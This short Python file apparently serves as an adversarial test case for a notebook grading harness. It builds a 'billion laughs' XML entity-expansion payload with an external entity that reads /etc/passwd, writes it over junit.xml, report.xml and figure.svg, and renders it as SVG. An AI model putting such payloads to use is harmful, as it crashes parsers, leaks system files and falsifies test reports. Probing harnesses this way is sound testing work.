"""Leaves and shows XML whose entities unfold to billions of letters, or to files."""

CLASS = "lying objects"
EXPECT = "no points"
SEEN = "billion laughs left"
BASE = "release"

# %% [append]
from IPython.display import SVG, display

entities = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
entities += '<!ENTITY file SYSTEM "file:///etc/passwd">'
text = f'<?xml version="1.0"?><!DOCTYPE svg [{entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;&file;</text></svg>'
for name in ("junit.xml", "report.xml", "figure.svg"):
    with open(name, "w") as file:
        file.write(text)
display({"image/svg+xml": text}, raw=True)
print("billion laughs left")
